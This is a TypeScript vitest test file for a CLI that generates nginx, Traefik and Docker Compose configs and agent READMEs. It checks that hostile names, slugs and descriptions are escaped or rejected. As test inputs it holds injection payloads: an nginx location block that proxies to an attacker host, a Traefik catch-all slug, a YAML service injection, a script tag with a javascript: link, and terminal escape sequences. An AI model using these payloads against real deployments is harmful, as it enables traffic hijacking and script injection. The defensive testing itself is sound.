import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import yaml from 'js-yaml';
import { describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main.js';
import { table, terminalSafe } from '../../src/cli/render.js';
import { resolveConfig } from '../../src/config/config.js';
import { composeDocument } from '../../src/generate/compose.js';
import { markdownCode, markdownInline, nginxToken, shellWord } from '../../src/generate/escape.js';
import { DEFAULT_PRODUCTION, agentTargets, type AgentTarget } from '../../src/generate/model.js';
import { nginxConfig } from '../../src/generate/nginx.js';
import { stackDocument } from '../../src/generate/stack.js';
import { traefikDynamicConfig } from '../../src/generate/traefik.js';
import type { AgentRecord } from '../../src/registry/registry.js';
import { renderAgentFiles } from '../../src/scaffold/render.js';

const config = resolveConfig('/ws', {}, {});
/** A target built the way the CLI builds it, from a record the generators are not told is valid. */
const target = (over: Partial<AgentRecord>): AgentTarget =>
  agentTargets(config, [{ name: 'DataAgent', slug: 'data-agent', description: 'd', capabilities: ['data'], category: 'data', model: 'none', version: '0.1.0', port: 8081, desired: 'running', status: 'running', createdAt: '', updatedAt: '', ...over }], DEFAULT_PRODUCTION)[0]!;
const stackOpts = { ...DEFAULT_PRODUCTION, replicas: 1, routerImage: 'nginx:1.27-alpine', nginxConfFile: 'a.conf', agentsIndexFile: 'a.json', configNames: { nginx: 'n', index: 'i' } };
const INJECTION = 'A\n} location / { proxy_pass http://attacker.example; }';
const BACKTICK_SLUG = 'x`) || PathPrefix(`/';

describe('nginx configuration', () => {
  it('keeps a name with a newline inside its comment: no injected location or proxy_pass', () => {
    const conf = nginxConfig([target({ name: INJECTION })], DEFAULT_PRODUCTION);
    expect(conf).not.toMatch(/^\s*\}?\s*location \/ \{ proxy_pass/m);
    expect(conf.match(/^\s*proxy_pass /gm)).toHaveLength(1);
    expect(conf.match(/^\s*location /gm)).toHaveLength(4);
    expect(conf).toContain('    # A?} location / { proxy_pass http://attacker.example; }\n');
  });

  it.each(['a;b', 'a b', '../x', 'a{', '$host', BACKTICK_SLUG])('refuses slug %j with USAGE', (slug) => {
    expect(() => nginxConfig([target({ slug })], DEFAULT_PRODUCTION)).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });

  it('quotes what is not a bare token and refuses what nginx cannot express', () => {
    expect(nginxToken('/agents/a/', 'x')).toBe('/agents/a/');
    expect(nginxToken('a b"c\\', 'x')).toBe('"a b\\"c\\\\"');
    expect(() => nginxToken('a$b', 'x')).toThrow(expect.objectContaining({ code: 'USAGE' }));
    expect(() => nginxToken('a\nb', 'x')).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });
});

describe('Traefik rules', () => {
  it('refuse a backtick slug in the file provider and in compose labels (no catch-all rule)', () => {
    expect(() => traefikDynamicConfig([target({ slug: BACKTICK_SLUG })], DEFAULT_PRODUCTION)).toThrow(expect.objectContaining({ code: 'USAGE' }));
    expect(() => composeDocument(config, [target({ slug: BACKTICK_SLUG })], { ...DEFAULT_PRODUCTION, router: 'traefik', routerImage: 'traefik:v3.1' })).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });
});

describe('Compose and stack files', () => {
  it('escape $ in configured labels so Compose does not interpolate them', () => {
    const c = resolveConfig('/ws', { labels: { team: 'a${HOME}b' }, router: { url: 'http://r.example/$x' } }, {});
    const doc = composeDocument(c, agentTargets(c, [], DEFAULT_PRODUCTION), { ...DEFAULT_PRODUCTION, router: 'nginx', routerImage: 'nginx:1.27-alpine' });
    expect((doc.services as Record<string, { labels: Record<string, string> }>).router!.labels.team).toBe('a$${HOME}b');
    const stack = stackDocument(c, [target({})], { ...stackOpts, publicUrl: 'http://r.example/$x' });
    const svc = (stack.services as Record<string, { environment: Record<string, string>; deploy: { labels: Record<string, string> } }>)['data-agent']!;
    expect(svc.deploy.labels.team).toBe('a$${HOME}b');
    expect(svc.environment.AGENT_PUBLIC_URL).toBe('http://r.example/$$x/agents/data-agent');
  });

  it("refuse an agent whose slug is the router's service name instead of replacing one with the other", () => {
    expect(() => composeDocument(config, [target({ slug: 'router', name: 'Router' })], { ...DEFAULT_PRODUCTION, router: 'nginx', routerImage: 'nginx' })).toThrow(expect.objectContaining({ code: 'USAGE' }));
    expect(() => stackDocument(config, [target({ slug: 'router', name: 'Router' })], stackOpts)).toThrow(expect.objectContaining({ code: 'USAGE' }));
    expect(Object.keys(composeDocument(config, [target({ slug: 'router', name: 'Router' })], { ...DEFAULT_PRODUCTION, router: 'none', routerImage: '' }).services as object)).toEqual(['router']);
  });

  it('refuse a network name Docker would not accept', () => {
    expect(() => composeDocument(config, [target({})], { ...DEFAULT_PRODUCTION, network: 'a b: {}', router: 'none', routerImage: '' })).toThrow(expect.objectContaining({ code: 'USAGE' }));
  });

  it('keep a hostile description and version out of the YAML structure', () => {
    const doc = composeDocument(config, [target({ description: 'x\nservices:\n  evil: {image: x}', version: '1"\n- ' })], { ...DEFAULT_PRODUCTION, router: 'nginx', routerImage: 'nginx' });
    expect(Object.keys((yaml.load(yaml.dump(doc)) as { services: object }).services).sort()).toEqual(['data-agent', 'router']);
  });
});

describe('agent README (Markdown) and entry point', () => {
  const input = { name: 'My agent_2', slug: 'my-agent-2', description: 'ok', version: '0.1.0', capabilities: ['data'], category: 'data', model: 'none', port: 8081, tools: ['process_data' as const] };

  it('keeps a hostile description on its line: no heading, HTML or fence injected', async () => {
    const files = await renderAgentFiles({ ...input, description: 'x\n# Injected\n<script>alert(1)</script>\n```\n[a](javascript:b)' });
    const readme = files.get('README.md')!;
    expect(readme.split('\n').filter((l) => l.startsWith('#'))).toEqual(['# My agent\\_2']);
    expect(readme).not.toContain('<script>');
    expect(readme.match(/^```/gm)).toHaveLength(2);
    expect(readme).toContain('npm run agent -- start --name \'My agent_2\'');
    expect(files.get('src/index.ts')!.split('\n')[0]).toBe('// My agent_2: the agent\'s entry point. Add tools in ./tools and list them below, then run');
  });

  it('escapes Markdown and shell by their grammars', () => {
    expect(markdownInline('a*b_[c](d) <e> & #')).toBe('a\\*b\\_\\[c\\]\\(d\\) &lt;e\\> &amp; \\#');
    expect(markdownCode('a`b')).toBe('``a`b``');
    expect(markdownCode('`a')).toBe('`` `a ``');
    expect(shellWord("it's")).toBe("'it'\\''s'");
  });
});

describe('terminal output', () => {
  it('strips escape sequences and control characters from tables and text', () => {
    expect(terminalSafe('\u001b[2J\u001b]0;pwned\u0007ok\rX')).toBe('ok?X');
    expect(table(['name'], [['\u001b[31mred\u001b[0m\nnext']])).toBe('NAME\nred next');
  });

  it('prints errors without the escape sequences a name carried', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'nexus-term-'));
    let err = '';
    const sink = (fn: (s: string) => void) => new Writable({ write: (c, _e, cb) => (fn(String(c)), cb()) });
    const code = await main(['--workspace', dir, 'create', '--name', 'A\u001b[2J\u001b]0;owned\u0007'], { stdout: sink(() => {}), stderr: sink((s) => (err += s)), env: {}, cwd: dir });
    expect(code).toBe(2);
    expect(err).toContain('invalid agent name');
    expect(err).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});
